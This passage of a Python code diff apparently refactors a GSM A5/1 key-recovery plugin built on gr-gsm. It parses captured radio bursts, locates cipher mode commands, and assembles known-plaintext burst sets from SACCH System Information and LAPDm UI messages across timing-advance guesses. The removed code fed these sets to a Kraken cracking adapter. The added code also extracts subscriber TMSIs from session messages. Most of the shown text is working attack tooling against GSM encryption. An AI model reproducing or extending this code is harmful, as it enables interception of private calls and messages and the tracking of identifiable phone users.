+        :param fnr_start: the framenumber from which on System Information messages are taken into account.
+        :param fnr_cmc: the framenumber of the cipher mode command.
+        :param cell_store: an optional CellStore, its library of the cell provides the message types that were
+        not seen in the capture and the coded bursts of the known messages.
+        :param arfcn: the ARFCN of the cell.
+        :return: a tuple of an A5BurstSetBatch and the kinds of its burst sets, or None if the last System
+        Information message is not known.
+        """
         last_sit_fnr = -1
         last_si_type = None
         timingadvance = -1
@@ -137,50 +669,42 @@ class A51ReconstructionPlugin(PluginBase):
         plaintext_si_msgs = dict()
 
         for sit_fnr in cmc_analyzer.sacch_sits:
-            if sit_fnr > last_sit_fnr and sit_fnr < fnr_cmc:
+            if sit_fnr > last_sit_fnr and fnr_start <= sit_fnr < fnr_cmc:
                 last_sit_fnr = sit_fnr
                 # extract timing advance
                 last_si_type = cmc_analyzer.sacch_sits[sit_fnr][1]
                 data_string = cmc_analyzer.sacch_sits[sit_fnr][2]
-                # byte_arr = array.array('B', data_string.decode("hex"))
-
-                byte_list = self.byte_string_to_list(data_string)
-                timingadvance = byte_list[1]
+                timingadvance = self.byte_string_to_list(data_string)[1]
 
                 # add the system information messages from the attacked sacch
-                # those should have the right timing advance anyway (at least in most cases)
                 if not plaintext_si_msgs.has_key(last_si_type):
-                    plaintext_si_msgs[last_si_type] = byte_list
+                    plaintext_si_msgs[last_si_type] = data_string
 
         if last_sit_fnr == -1:
-            self.printmsg("Could not determine last System Information message")
-            return
-        #self.printmsg("Last SI message at " + str(last_sit_fnr))
-
-        si_collector = SICollector(timeslot, burst_file, mode)
-        si_collector.start()
-        si_collector.wait()
-
-        # collect all system information message types used on SACCH by the network
-        for t in si_collector.si_messages:
-            # there can be at most four different system information message types on SACCH.
-            if len(plaintext_si_msgs) >= 4:
-                break
-
-            # if the type is not in the plaintext dictionary or has another timing advance
-            # we put it in the dict
-            if not plaintext_si_msgs.has_key(t) or plaintext_si_msgs[t][1] != timingadvance:
-                plaintext_si_msgs[t] = self.byte_string_to_list(si_collector.si_messages[t])
+            return None
+
+        # collect all system information message types used on SACCH by the network, first from the capture,
+        # then from the messages of the cell seen in earlier captures
+        library = dict()
+        if cell_store is not None and arfcn is not None:
+            library = cell_store.sacch_messages(arfcn)
+        for messages in (cmc_analyzer.si_messages, library):
+            for t in messages:
+                # there can be at most four different system information message types on SACCH.
+                if len(plaintext_si_msgs) >= 4:
+                    break
+                if not plaintext_si_msgs.has_key(t):
+                    plaintext_si_msgs[t] = messages[t]
 
-        for msg in plaintext_si_msgs:
-            # correct timing advance
-            if plaintext_si_msgs[msg][1] != timingadvance:
-                plaintext_si_msgs[msg][1] = timingadvance
+        # the timing advance hypotheses, the observed one first
+        timingadvances = [timingadvance + offset for offset in self.timing_advance_offsets
+                          if 0 <= timingadvance + offset < TIMING_ADVANCES]
 
-        # create bursts for all system information message types
+        # create bursts for all system information message types and timing advances
         plaintext_si_bursts = dict()
         for msg in plaintext_si_msgs:
-            plaintext_si_bursts[msg] = self.message_to_bursts(plaintext_si_msgs[msg])
+            plaintext_si_bursts[msg] = self.message_to_bursts_for_timingadvances(plaintext_si_msgs[msg],
+                                                                                  timingadvances, cell_store, arfcn)
 
         sacch_si_types = ["System Information Type 5", "System Information Type 5bis", "System Information Type 5ter",
                           "System Information Type 6"]
@@ -193,141 +717,356 @@ class A51ReconstructionPlugin(PluginBase):
         dropwhile(lambda x: x != last_si_type, type_pool)
         next(type_pool)  # next one would last_si_type, which we use as starting point
 
-        # assemble burst sets
-        sacch_burst_sets = []
-        for i in range(1, 4):
-            type_of_msg = next(type_pool)  # expected type of next message
-            fnr_of_msg = last_sit_fnr + i * 102
-
-            bursts_of_plaintext = plaintext_si_bursts[type_of_msg]
-
-            for j in range(0, 4):
-                fnr = fnr_of_msg + j
-                check_burst_index = 0 if j > 0 else 1
-                sacch_burst_sets.append(
-                    A5BurstSet(
-                        fnr,  # framenumber of the burst we want to use
-                        cmc_analyzer.bursts[fnr],  # data (payload) of the burst we want to use
-                        bursts_of_plaintext[j],  # plaintext data (payload) of a lapdm ui message
-                        fnr_of_msg + check_burst_index,  # framenumber of verification burst.
-                        # we use the first burst of the message as check burst, if j > 0
-                        cmc_analyzer.bursts[fnr_of_msg + check_burst_index],  # data (payload) of the verification burst
-                        bursts_of_plaintext[check_burst_index]  # plaintextdata (payload) of
-                        # the verification burst
-                    )
-                )
-
-        sacch_counter = 0
-        for burst_set in sacch_burst_sets:
-            if sacch_counter % 4 == 0 and args.verbose:
-                self.printmsg(
-                    "Using SACCH message bursts %s - %s" % (burst_set.frame_number, burst_set.frame_number + 4))
-                sacch_counter += 1
-
-            key = kraken_adapter.send2kraken(burst_set, args.verbose)
-            if key is not None:
-                key_found = True
-                self.printmsg("Key found: %s" % key)
-                break
-            else:
-                pass
-                # self.printmsg("%s - no key found" % burst_set.frame_number)
+        # assemble burst sets for the next 3 messages, every SACCH message is sent once per 102-multiframe
+        types_of_msgs = [next(type_pool) for i in range(1, 4)]  # expected types of the next messages
+        fnrs_of_msgs = last_sit_fnr + 102 * numpy.arange(1, 4)
+        batches = []
+        kinds = []
+        for i, ta in enumerate(timingadvances):
+            plaintexts = numpy.array([plaintext_si_bursts[t][i] for t in types_of_msgs])
+            batches.append(cmc_analyzer.create_burst_sets(fnrs_of_msgs, plaintexts))
+            kinds.extend(["SACCH" if ta == timingadvance else "SACCH TA"] * len(batches[-1]))
+        return A5BurstSetBatch.concatenate(batches), kinds
+
+    def message_to_bursts_for_timingadvances(self, data_string, timingadvances, cell_store=None, arfcn=None):
+        """
+        Get the coded bursts of a SACCH message for several timing advances, from the library of the cell if
+        the message is known there.
 
-        # self.printmsg("I am done....")
-        # Todo: look at a lapdm ui message: if randomized, we wont do the attempt on sdcch
+        :param data_string: the message as hex string, including the L1 header.
+        :return: an uint8 array of shape (timing advances, 4, 114).
+        """
+        if cell_store is not None and arfcn is not None:
+            bursts = cell_store.sacch_bursts(arfcn, data_string)
+            if bursts is not None:
+                return bursts[timingadvances]
+        variants = numpy.tile(self.byte_string_to_list(data_string), (len(timingadvances), 1))
+        variants[:, TIMING_ADVANCE_OCTET] = timingadvances
+        return framecoder.encode_xcch_cached(variants)
 
     def byte_string_to_list(self, string):
         byte_arr = array.array('B', string.decode("hex"))
         return byte_arr.tolist()
 
-    def message_to_bursts(self, message_bytes):
-        result = []
-        message = ""
-
-        for byte in message_bytes:
-            message += "%0.2X" % byte
-
-        output = check_output(["gsmframecoder", message]).split("\n")
-        if len(output) >= 9:
-            for i in range(4):
-                result.append(output[(i + 1) * 2])
-        return result
 
+class SinglePassAnalyzer(EarlyTermination, gr.top_block):
+    """
+    Reads a burst file once and fans the bursts out to all extractors needed for the A5/1 attack:
+    Immediate Assignments on the CCCH, Cipher Mode Commands and System Information on the dedicated channels.
+    After wait() returned, the results can be queried from memory without reading the burst file again.
+    If the analysis looks for a single session, it stops as soon as the cipher mode command was decoded. The
+    decoded messages are watched by message sinks of their own, the extractors are only queried after wait().
+    """
 
-class CMCAnalyzer(gr.top_block):
-    def __init__(self, timeslot, burst_file, mode, fnr_start, fnr_end):
+    def __init__(self, burst_file, channels, ia_timeslot=None, ia_mode=None, fnr_ia=None, fnr_cmc=None,
+                 assigned=None, memory_limit=DEFAULT_MEMORY_LIMIT):
+        """
+        :param burst_file: the burst file to analyze.
+        :param channels: a dictionary mapping the timeslots of the dedicated channels to analyze to their channel
+        mode ('BCCH_SDCCH4' or 'SDCCH8').
+        :param ia_timeslot: timeslot of the CCCH to extract Immediate Assignments from. None disables the extraction.
+        :param ia_mode: channel mode of the CCCH.
+        :param fnr_ia: stop after the cipher mode command on the channel assigned at this framenumber was decoded.
+        :param fnr_cmc: stop after the cipher mode command at this framenumber was decoded.
+        :param assigned: the timeslot and subchannel assigned at fnr_ia, if the immediate assignment was decoded
+        before.
+        :param memory_limit: memory in bytes for the bursts of all channels kept by the analysis.
+        """
         gr.top_block.__init__(self, "Top Block")
+        self.fnr_ia = fnr_ia
+        self.fnr_cmc = fnr_cmc
+        self.memory_limit = memory_limit
+        self.__lock = threading.Lock()
+        self.__assigned = assigned  # timeslot and subchannel assigned at fnr_ia
+        self.__cmcs = []  # timeslot, subchannel and framenumber of the decoded cipher mode commands
+        watch = fnr_cmc is not None or fnr_ia is not None
 
         self.burst_file_source = grgsm.burst_file_source(burst_file)
-        self.timeslot_filter = grgsm.burst_timeslot_filter(timeslot)
-        self.fnr_filter_start = grgsm.burst_fnr_filter(grgsm.FILTER_GREATER_OR_EQUAL, fnr_start)
-        self.fnr_filter_end = grgsm.burst_fnr_filter(grgsm.FILTER_LESS_OR_EQUAL, fnr_end)
+        self.timeslot_splitter = grgsm.burst_timeslot_splitter()
+        self.msg_connect((self.burst_file_source, 'out'), (self.timeslot_splitter, 'in'))
+
+        self.extract_immediate_assignment = None
+        if ia_timeslot is not None:
+            if ia_mode == 'BCCH_SDCCH4':
+                self.ia_demapper = grgsm.gsm_bcch_ccch_sdcch4_demapper(timeslot_nr=ia_timeslot, )
+            elif ia_mode == 'BCCH':
+                self.ia_demapper = grgsm.gsm_bcch_ccch_demapper(timeslot_nr=ia_timeslot, )
+            else:
+                self.ia_demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=ia_timeslot, )
+            self.ia_decoder = grgsm.control_channels_decoder()
+            self.extract_immediate_assignment = grgsm.extract_immediate_assignment()
+
+            self.msg_connect((self.timeslot_splitter, 'out' + str(ia_timeslot)), (self.ia_demapper, 'bursts'))
+            self.msg_connect((self.ia_demapper, 'bursts'), (self.ia_decoder, 'bursts'))
+            self.msg_connect((self.ia_decoder, 'msgs'), (self.extract_immediate_assignment, 'msgs'))
+            if fnr_ia is not None:
+                self.ia_watch = MessageWatch("ia", self.__ia_decoded)
+                self.msg_connect((self.ia_decoder, 'msgs'), (self.ia_watch, 'msgs'))
+
+        self.channel_arms = dict()
+        for timeslot in channels:
+            arm = DedicatedChannelArm(timeslot, channels[timeslot], self.__cmc_decoded if watch else None)
+            self.channel_arms[timeslot] = arm
+            self.msg_connect((self.timeslot_splitter, 'out' + str(timeslot)), (arm, 'in'))
+
+        self.immediate_assignments = None
+        self.channels = None
+
+    def wait(self):
+        """
+        Override gr.top_block's wait method.
+        """
+        super(SinglePassAnalyzer, self).wait()
+        self.__create_ia_list()
+        self.channels = dict()
+        for timeslot in self.channel_arms:
+            self.channels[timeslot] = ChannelAnalysis(self.channel_arms[timeslot],
+                                                      self.memory_limit // len(self.channel_arms))
+
+    def __ia_decoded(self, message):
+        if struct.unpack_from(">I", message, GSMTAP_OFFSET_FRAME_NUMBER)[0] != self.fnr_ia:
+            return
+        with self.__lock:
+            self.__assigned = assigned_channel(message)
+        self.__check()
+
+    def __cmc_decoded(self, timeslot, subchannel, message):
+        with self.__lock:
+            self.__cmcs.append((timeslot, subchannel,
+                                struct.unpack_from(">I", message, GSMTAP_OFFSET_FRAME_NUMBER)[0]))
+        self.__check()
+
+    def __check(self):
+        # the system information on SACCH precedes the cmc on the same subchannel, so it was collected as well
+        with self.__lock:
+            if self.fnr_cmc is not None:
+                complete = any(fnr == self.fnr_cmc for timeslot, subchannel, fnr in self.__cmcs)
+            else:
+                complete = self.__assigned is not None and any(
+                    (timeslot, subchannel) == self.__assigned and self.fnr_ia <= fnr <= self.fnr_ia + CMC_SEARCH_FRAMES
+                    for timeslot, subchannel, fnr in self.__cmcs)
+        if complete:
+            self.complete()
+
+    def get_immediate_assignment(self, framenumber):
+        """
+        Get the Immediate Assignment at the specified frame number.
+        :param framenumber: the framenumber of the Immediate Assignment.
+        :return: the Immediate Assignment or None if there is no Immediate Assignment at the frame number.
+        """
+        for immediate_assignment in self.immediate_assignments:
+            if immediate_assignment.frame_number == framenumber:
+                return immediate_assignment
+        return None
+
+    def __create_ia_list(self):
+        self.immediate_assignments = []
+        if self.extract_immediate_assignment is None:
+            return
+
+        fnrs = self.extract_immediate_assignment.get_frame_numbers()
+        timeslots = self.extract_immediate_assignment.get_timeslots()
+        subchannels = self.extract_immediate_assignment.get_subchannels()
+        channel_types = self.extract_immediate_assignment.get_channel_types()
+        for i in range(len(fnrs)):
+            self.immediate_assignments.append(ImmediateAssignment(fnrs[i], timeslots[i], subchannels[i],
+                                                                  channel_types[i]))
+
+
+class ImmediateAssignment(object):
+    def __init__(self, frame_number, timeslot, subchannel, channel_type):
+        self.frame_number = frame_number
+        self.timeslot = timeslot
+        self.subchannel = subchannel
+        self.channel_type = channel_type
+
+
+class DedicatedChannelArm(gr.hier_block2):
+    def __init__(self, timeslot, mode, on_cmc=None):
+        """
+        :param on_cmc: an optional function that is called with the timeslot, the subchannel and the message of
+        every decoded cipher mode command.
+        """
+        gr.hier_block2.__init__(
+            self, "Dedicated Channel Arm",
+            gr.io_signature(0, 0, 0),
+            gr.io_signature(0, 0, 0),
+        )
+        self.message_port_register_hier_in("in")
+
         if mode == 'BCCH_SDCCH4':
             self.subslot_splitter = grgsm.burst_sdcch_subslot_splitter(grgsm.SPLITTER_SDCCH4)
-            self.subslot_analyzers = [CMCAnalyzerArm() for x in range(4)]
+            self.subslot_analyzers = [CMCAnalyzerArm(on_cmc and partial(on_cmc, timeslot, x)) for x in range(4)]
             self.demapper = grgsm.gsm_bcch_ccch_sdcch4_demapper(timeslot_nr=timeslot, )
         else:
             self.subslot_splitter = grgsm.burst_sdcch_subslot_splitter(grgsm.SPLITTER_SDCCH8)
-            self.subslot_analyzers = [CMCAnalyzerArm() for x in range(8)]
+            self.subslot_analyzers = [CMCAnalyzerArm(on_cmc and partial(on_cmc, timeslot, x)) for x in range(8)]
             self.demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=timeslot, )
 
-        self.control_channels_decoder = grgsm.control_channels_decoder()
-        self.burst_sink = grgsm.burst_sink()
-
-        self.msg_connect((self.burst_file_source, 'out'), (self.timeslot_filter, 'in'))
-        self.msg_connect((self.timeslot_filter, 'out'), (self.fnr_filter_start, 'in'))
-        self.msg_connect((self.fnr_filter_start, 'out'), (self.fnr_filter_end, 'in'))
-        self.msg_connect((self.fnr_filter_end, 'out'), (self.demapper, 'bursts'))
-        self.msg_connect((self.demapper, 'bursts'), (self.burst_sink, 'in'))
+        self.msg_connect((self, 'in'), (self.demapper, 'bursts'))
         self.msg_connect((self.demapper, 'bursts'), (self.subslot_splitter, 'in'))
-        for i in range(4 if mode == 'BCCH_SDCCH4' else 8):
+        for i in range(len(self.subslot_analyzers)):
             self.msg_connect((self.subslot_splitter, 'out' + str(i)), (self.subslot_analyzers[i], 'in'))
 
-        self.bursts = None
+
+class MessageWatch(gr.basic_block):
+    """
+    Message sink that passes the decoded control channel messages of a kind to a function. It is called on the
+    thread of the message handler and does not touch the state of the extractors.
+    """
+
+    def __init__(self, kind, callback):
+        """
+        :param kind: the kind of messages, as understood by classify_message, None for all messages.
+        :param callback: the function called with every message of the kind, GSMTAP header followed by L2 frame.
+        """
+        gr.basic_block.__init__(self, name="message_watch", in_sig=[], out_sig=[])
+        self.kind = kind
+        self.callback = callback
+        self.message_port_register_in(pmt.intern("msgs"))
+        self.set_msg_handler(pmt.intern("msgs"), self.handle_msg)
+
+    def handle_msg(self, msg):
+        message = array.array("B", pmt.u8vector_elements(pmt.cdr(msg))).tostring()
+        if self.kind is None or classify_message(message, [self.kind]) is not None:
+            self.callback(message)
+
+
+def assigned_channel(message):
+    """
+    :param message: an Immediate Assignment on the CCCH, GSMTAP header followed by L2 frame.
+    :return: a tuple of the timeslot and the subchannel of the assigned SDCCH, None for other channels.
+    """
+    # the channel description follows the L2 pseudo length, the RR header and the page mode octet
+    if len(message) <= GSMTAP_HEADER_LENGTH + 4:
+        return None
+    description = ord(message[GSMTAP_HEADER_LENGTH + 4])
+    channel_type, timeslot = description >> 3, description & 0x07
+    if channel_type & 0x18 == 0x08:
+        return timeslot, channel_type & 0x07  # SDCCH/8
+    if channel_type & 0x1c == 0x04:
+        return timeslot, channel_type & 0x03  # SDCCH/4
+    return None
+
+
+class ChannelAnalysis(object):
+    """
+    In-memory results of the analysis of a dedicated channel. The payloads of the bursts are only read for
+    the windows around the cipher mode commands and kept in a ring of bounded size.
+    """
+
+    def __init__(self, arm, memory_limit=DEFAULT_MEMORY_LIMIT):
+        """
+        :param arm: the DedicatedChannelArm of the channel.
+        :param memory_limit: memory in bytes for the payloads of the bursts.
+        """
+        self.bursts = BurstRing(memory_limit)  # payloads of the bursts, filled on demand
+        self.snr = dict()  # SNR of the bursts in dB, filled on demand
         self.cmcs = None
+        self.sacch_sits = None
+        self.si_messages = None
+        self.identities = [analyzer.identities for analyzer in arm.subslot_analyzers]
+        self.__create_cmc_dict(arm)
+        self.__create_sacch_dict(arm)
 
-    def wait(self):
+    def add_bursts(self, reader, timeslot, fnr_start, fnr_end):
         """
-        Override gr.top_block's wait method.
+        Read the payloads of the bursts of the channel within a frame number window.
+
+        :param reader: a BurstArrayReader of the burst file.
         """
-        gr.top_block.wait(self)
-        self.__create_data_dict()
-        self.__create_cmc_dict()
-        self.__create_sacch_dict()
+        indices = reader.select(timeslot=timeslot, fnr_start=fnr_start, fnr_end=fnr_end)
+        self.bursts.add(reader.bursts["frame_number"][indices], reader.payloads(indices))
 
     def is_a51_cmc(self, framenumber_cmc):
         if framenumber_cmc in self.cmcs and self.cmcs[framenumber_cmc][1] == 1:
             return True
         return False
 
+    def find_cmc(self, subchannel, fnr_start, fnr_end):
+        """
+        Find the first Cipher Mode Command on a subchannel within a frame number window.
+        :param subchannel: the subchannel of the cmc.
+        :param fnr_start: lowest framenumber of the window.
+        :param fnr_end: highest framenumber of the window.
+        :return: the framenumber of the cmc or None if no cmc was found.
+        """
+        for fnr in sorted(self.cmcs):
+            if fnr_start <= fnr <= fnr_end and self.cmcs[fnr][0] == subchannel:
+                return fnr
+        return None
+
     def createLapdmUiBurstSets(self, framenumber_cmc):
         """
-        Creates a list of A5 burst sets with Lapdm UI plaintext messages
+        Creates a batch of A5 burst sets with Lapdm UI plaintext messages
 
         :param framenumber_cmc: the framenumber of the cipher mode command
-        :return: a list of A5 burst sets
-        """
-        burst_sets = []
-
-        for i in range(1, 6):  # starting from the first message after cmc, we try 5 messages
-            fnr_of_msg = framenumber_cmc + i * 51
-            for j in range(0, 4):  # a message has 4 bursts
-                fnr = fnr_of_msg + j
-                check_burst_index = 0 if j > 0 else 1
-
-                burst_sets.append(
-                    A5BurstSet(
-                        fnr,  # framenumber of the burst we want to use
-                        self.bursts[fnr],  # data (payload) of the burst we want to use
-                        A5ReconstructionAdapter.lapdm_ui[j],  # plaintext data (payload) of a lapdm ui message
-                        fnr_of_msg + check_burst_index,  # framenumber of verification burst.
-                        # we use the first burst of the message as check burst, if j > 0
-                        self.bursts[fnr_of_msg + check_burst_index],  # data (payload) of the verification burst
-                        A5ReconstructionAdapter.lapdm_ui[check_burst_index]  # plaintextdata (payload) of
-                        # the verification burst
-                    )
-                )
-        return burst_sets
+        :return: an A5BurstSetBatch
+        """
+        # starting from the first message after cmc, we try 5 messages of 4 bursts each
+        fnrs_of_msgs = framenumber_cmc + 51 * numpy.arange(1, 6)
+        return self.create_burst_sets(fnrs_of_msgs, bits_from_strings(A5ReconstructionAdapter.lapdm_ui)[None, :, :])
+
+    def create_burst_sets(self, fnrs_of_msgs, plaintexts):
+        """
+        Creates a batch of A5 burst sets for all bursts of messages with known plaintext.
+        The first burst of a message is verified with the second one, all other bursts with the first one.
+
+        :param fnrs_of_msgs: the framenumbers of the first bursts of the messages.
+        :param plaintexts: the plaintext payloads of the messages, an array of shape (messages, 4, 114).
+        A single message is used for all messages.
+        :return: an A5BurstSetBatch
+        """
+        fnrs_of_msgs = numpy.asarray(fnrs_of_msgs, dtype=numpy.int64)
+        plaintexts = numpy.broadcast_to(plaintexts, (len(fnrs_of_msgs), 4, plaintexts.shape[2]))
+        check_index = numpy.array([1, 0, 0, 0])
+
+        fnrs = (fnrs_of_msgs[:, None] + numpy.arange(4)).ravel()
+        check_fnrs = (fnrs_of_msgs[:, None] + check_index).ravel()
+        return A5BurstSetBatch(fnrs, self.payloads(fnrs), plaintexts.reshape(-1, plaintexts.shape[2]),
+                               check_fnrs, self.payloads(check_fnrs),
+                               plaintexts[:, check_index, :].reshape(-1, plaintexts.shape[2]))
+
+    def messages_before(self, framenumber_cmc, count=4):
+        """
+        Get the unencrypted messages on the subchannel of a cipher mode command in front of it.
+
+        :param framenumber_cmc: the framenumber of the cipher mode command.
+        :param count: the number of messages.
+        :return: the captured messages as an uint8 array of shape (number of messages, 4, 114).
+        """
+        messages = []
+        for i in range(1, count + 1):
+            try:
+                messages.append(self.payloads(framenumber_cmc - 51 * i + numpy.arange(4)))
+            except KeyError:
+                pass  # not captured
+        return numpy.array(messages, dtype=numpy.uint8).reshape(-1, 4, BURST_PAYLOAD_LENGTH)
+
+    def payloads(self, framenumbers):
+        """
+        Get the payloads of bursts as uint8 matrix.
+
+        :param framenumbers: the framenumbers of the bursts.
+        :raise KeyError: if a burst was not captured.
+        """
+        return self.bursts.payloads(framenumbers)
+
+    def get_tmsi(self, framenumber_cmc):
+        """
+        Get the TMSI of the mobile of a session, from the initial message on the subchannel of its cmc.
+
+        :param framenumber_cmc: the framenumber of the cmc.
+        :return: the TMSI as lower case hex string, None if the mobile was not identified by a TMSI.
+        """
+        subchannel = self.get_subchannel(framenumber_cmc)
+        if subchannel is None:
+            return None
+        tmsi = None
+        for fnr, identity in self.identities[subchannel]:
+            if framenumber_cmc - IDENTITY_SEARCH_FRAMES <= fnr < framenumber_cmc:
+                tmsi = identity
+        return tmsi
 
     def get_subchannel(self, framenumber_cmc):
         """
@@ -339,26 +1078,19 @@ class CMCAnalyzer(gr.top_block):
             return self.cmcs[framenumber_cmc][0]
         return None
 
-    def __create_data_dict(self):
-        self.bursts = dict()
-        fnrs = self.burst_sink.get_framenumbers()
-        data = self.burst_sink.get_burst_data()
-        for i in range(len(fnrs)):
-            self.bursts[fnrs[i]] = data[i][3:60] + data[i][88:145]  # take burst payload only
-
-    def __create_cmc_dict(self):
+    def __create_cmc_dict(self, arm):
         self.cmcs = dict()
-        for subchannel in range(len(self.subslot_analyzers)):
-            analyzer = self.subslot_analyzers[subchannel]
+        for subchannel in range(len(arm.subslot_analyzers)):
+            analyzer = arm.subslot_analyzers[subchannel]
             cmc_a5_versions = analyzer.extract_cmc.get_a5_versions()
             cmc_fnrs = analyzer.extract_cmc.get_framenumbers()
             for i in range(len(cmc_fnrs)):
                 self.cmcs[cmc_fnrs[i]] = (subchannel, cmc_a5_versions[i])  # tuple: subchannel and A5 version
 
-    def __create_sacch_dict(self):
+    def __create_sacch_dict(self, arm):
         self.sacch_sits = dict()
-        for subchannel in range(len(self.subslot_analyzers)):
-            analyzer = self.subslot_analyzers[subchannel]
+        for subchannel in range(len(arm.subslot_analyzers)):
+            analyzer = arm.subslot_analyzers[subchannel]
             sit_fnrs = analyzer.collect_system_info.get_framenumbers()
             sit_types = analyzer.collect_system_info.get_system_information_type()
             sit_data = analyzer.collect_system_info.get_data()
@@ -367,9 +1099,25 @@ class CMCAnalyzer(gr.top_block):
                         "System Information Type 6"):
                     self.sacch_sits[sit_fnrs[i]] = (subchannel, sit_types[i], sit_data[i])
 
+        # the first occurrence of every system information message type used on SACCH
+        self.si_messages = dict()
+        for sit_fnr in sorted(self.sacch_sits):
+            if len(self.si_messages) >= 4:  # there can only be 4 different SI message types on SACCH
+                break
+            si_type = self.sacch_sits[sit_fnr][1]
+            if not self.si_messages.has_key(si_type):
+                self.si_messages[si_type] = self.sacch_sits[sit_fnr][2]
+
+        # the SACCH attack only uses the messages within two SACCH periods before a cmc
+        cmc_fnrs = numpy.array(sorted(self.cmcs), dtype=numpy.int64)
+        for sit_fnr in self.sacch_sits.keys():
+            i = numpy.searchsorted(cmc_fnrs, sit_fnr, side="right")
+            if i == len(cmc_fnrs) or cmc_fnrs[i] - sit_fnr > SACCH_WINDOW_FRAMES:
+                del self.sacch_sits[sit_fnr]
+
 
 class CMCAnalyzerArm(gr.hier_block2):
-    def __init__(self):
+    def __init__(self, on_cmc=None):
         gr.hier_block2.__init__(
             self, "Cmc Analyzer Block",
             gr.io_signature(0, 0, 0),
@@ -386,108 +1134,15 @@ class CMCAnalyzerArm(gr.hier_block2):
         self.msg_connect((self.decoder, 'msgs'), (self.extract_system_info, 'msgs'))
         self.msg_connect((self.decoder, 'msgs'), (self.collect_system_info, 'msgs'))
         self.msg_connect((self, 'in'), (self.decoder, 'bursts'))
-
-
-class ImmediateAssignmentExtractor(gr.top_block):
-    def __init__(self, burst_file, timeslot, mode, framenumber):
-        gr.top_block.__init__(self, "Top Block")
-
-        self.burst_file_source = grgsm.burst_file_source(burst_file)
-        self.timeslot_filter = grgsm.burst_timeslot_filter(timeslot)
-        self.fnr_filter_start = grgsm.burst_fnr_filter(grgsm.FILTER_GREATER_OR_EQUAL, framenumber)
-        if mode == 'BCCH_SDCCH4':
-            self.demapper = grgsm.gsm_bcch_ccch_sdcch4_demapper(timeslot_nr=timeslot, )
-        else:
-            self.demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=timeslot, )
-
-        self.decoder = grgsm.control_channels_decoder()
-
-        self.extract_immediate_assignment = grgsm.extract_immediate_assignment()
-
-        self.msg_connect((self.burst_file_source, 'out'), (self.timeslot_filter, 'in'))
-        self.msg_connect((self.timeslot_filter, 'out'), (self.fnr_filter_start, 'in'))
-        self.msg_connect((self.fnr_filter_start, 'out'), (self.demapper, 'bursts'))
-        self.msg_connect((self.demapper, 'bursts'), (self.decoder, 'bursts'))
-        self.msg_connect((self.decoder, 'msgs'), (self.extract_immediate_assignment, 'msgs'))
-
-
-class CMCFinder(gr.top_block):
-    def __init__(self, burst_file, timeslot, subchannel, mode, fnr_start):
-        gr.top_block.__init__(self, "Top Block")
-
-        self.burst_file_source = grgsm.burst_file_source(burst_file)
-        self.timeslot_filter = grgsm.burst_timeslot_filter(timeslot)
-        self.fnr_filter_start = grgsm.burst_fnr_filter(grgsm.FILTER_GREATER_OR_EQUAL, fnr_start)
-        # we only listen for a timespan of 12 SDCCH messages for the CMC
-        self.fnr_filter_end = grgsm.burst_fnr_filter(grgsm.FILTER_LESS_OR_EQUAL, fnr_start + 51 * 10000)
-
-        if mode == "BCCH_SDCCH4":
-            self.subchannel_filter = grgsm.burst_sdcch_subslot_filter(grgsm.SS_FILTER_SDCCH4, subchannel)
-            self.demapper = grgsm.gsm_bcch_ccch_sdcch4_demapper(timeslot_nr=timeslot, )
-        else:
-            self.subchannel_filter = grgsm.burst_sdcch_subslot_filter(grgsm.SS_FILTER_SDCCH8, subchannel)
-            self.demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=timeslot, )
-
-        self.demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=timeslot, )
-        self.decoder = grgsm.control_channels_decoder()
-        self.extract_cmc = grgsm.extract_cmc()
-
-        self.msg_connect((self.burst_file_source, 'out'), (self.timeslot_filter, 'in'))
-        self.msg_connect((self.timeslot_filter, 'out'), (self.subchannel_filter, 'in'))
-        self.msg_connect((self.subchannel_filter, 'out'), (self.fnr_filter_start, 'in'))
-        self.msg_connect((self.fnr_filter_start, 'out'), (self.fnr_filter_end, 'in'))
-        self.msg_connect((self.fnr_filter_end, 'out'), (self.demapper, 'bursts'))
-        self.msg_connect((self.demapper, 'bursts'), (self.decoder, 'bursts'))
-        self.msg_connect((self.decoder, 'msgs'), (self.extract_cmc, 'msgs'))
-
-    def get_cmc(self):
-        fnrs = self.extract_cmc.get_framenumbers()
-        if len(fnrs) > 0:
-            return self.extract_cmc.get_framenumbers()[0]
-        return None
-
-
-class SICollector(gr.top_block):
-    def __init__(self, timeslot, burst_file, mode):
-        gr.top_block.__init__(self, "Top Block")
-
-        self.si_messages = dict()
-
-        self.burst_file_source = grgsm.burst_file_source(burst_file)
-        self.timeslot_filter = grgsm.burst_timeslot_filter(timeslot)
-        if mode == 'BCCH_SDCCH4':
-            self.demapper = grgsm.gsm_bcch_ccch_sdcch4_demapper(timeslot_nr=timeslot, )
-        else:
-            self.demapper = grgsm.gsm_sdcch8_demapper(timeslot_nr=timeslot, )
-
-        self.decoder = grgsm.control_channels_decoder()
-        self.control_channels_decoder = grgsm.control_channels_decoder()
-        self.collect_system_info = grgsm.collect_system_info()
-
-        self.msg_connect((self.burst_file_source, 'out'), (self.timeslot_filter, 'in'))
-        self.msg_connect((self.timeslot_filter, 'out'), (self.demapper, 'bursts'))
-        self.msg_connect((self.demapper, 'bursts'), (self.decoder, 'bursts'))
-        self.msg_connect((self.decoder, 'msgs'), (self.collect_system_info, 'msgs'))
-
-    def wait(self):
-        """
-        Override gr.top_block's wait method.
-        """
-        gr.top_block.wait(self)
-        self.__analyze_sacch_messages()
-
-    def __analyze_sacch_messages(self):
-        si_types = self.collect_system_info.get_system_information_type()
-        si_data = self.collect_system_info.get_data()
-
-        def __is_sacch(si_type):
-            if si_type.startswith("System Information Type 5") or si_type.startswith("System Information Type 6"):
-                return True
-            return False
-
-        for i in range(len(self.collect_system_info.get_framenumbers())):
-            if __is_sacch(si_types[i]) and not self.si_messages.has_key(si_types[i]):
-                self.si_messages[si_types[i]] = si_data[i]
-
-            if len(self.si_messages) >= 4:  # there can only be 4 different SI message types on SACCH
-                break
+        # framenumbers and TMSIs of the initial messages of the sessions on the subchannel
+        self.identities = []
+        self.identity_watch = MessageWatch(None, self.__identified)
+        self.msg_connect((self.decoder, 'msgs'), (self.identity_watch, 'msgs'))
+        if on_cmc is not None:
+            self.cmc_watch = MessageWatch("cmc", on_cmc)
+            self.msg_connect((self.decoder, 'msgs'), (self.cmc_watch, 'msgs'))
+
+    def __identified(self, message):
+        tmsi = initial_tmsi(message)
+        if tmsi is not None:
